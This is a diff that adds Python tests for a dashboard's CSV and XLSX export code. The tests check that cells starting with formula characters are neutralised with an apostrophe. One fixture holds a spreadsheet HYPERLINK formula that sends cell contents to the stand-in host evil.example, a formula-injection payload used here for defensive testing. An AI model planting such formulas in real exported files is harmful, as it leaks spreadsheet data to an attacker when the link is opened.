@@ -1,0 +1,45 @@
+import csv
+import io
+
+import openpyxl
+import pandas as pd
+
+from dashboard.exports import csv_bytes, neutralise, xlsx_bytes
+
+EVIL = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
+
+
+def frame():
+    return pd.DataFrame(
+        {
+            "街道": [EVIL, "+1", "-cmd", "@SUM(A1)", "\tx", "\rx", "西溪街道", None],
+            "事件数": [1, -2, 3, 4, 5, 6, 7, 8],
+            "=header": ["a"] * 8,
+        }
+    )
+
+
+def test_neutralise_prefixes_formula_starts_and_leaves_numbers():
+    safe = neutralise(frame())
+    assert safe["街道"].tolist()[:6] == ["'" + v for v in (EVIL, "+1", "-cmd", "@SUM(A1)", "\tx", "\rx")]
+    assert safe["街道"].iloc[6] == "西溪街道"
+    assert pd.isna(safe["街道"].iloc[7])
+    assert safe["事件数"].tolist() == [1, -2, 3, 4, 5, 6, 7, 8]
+    assert list(safe.columns) == ["街道", "事件数", "'=header"]
+
+
+def test_csv_has_bom_and_no_formula_cells():
+    content = csv_bytes(frame())
+    assert content.startswith(b"\xef\xbb\xbf")
+    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
+    assert rows[0] == ["街道", "事件数", "'=header"]
+    assert rows[1][0] == "'" + EVIL
+
+
+def test_xlsx_text_cells_are_strings_not_formulas():
+    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(frame(), "streets")))
+    cells = [c for row in book["streets"].iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert book["streets"]["A2"].value == "'" + EVIL
+    assert book["streets"]["A2"].data_type == "s"
+    assert book["streets"]["B3"].value == -2
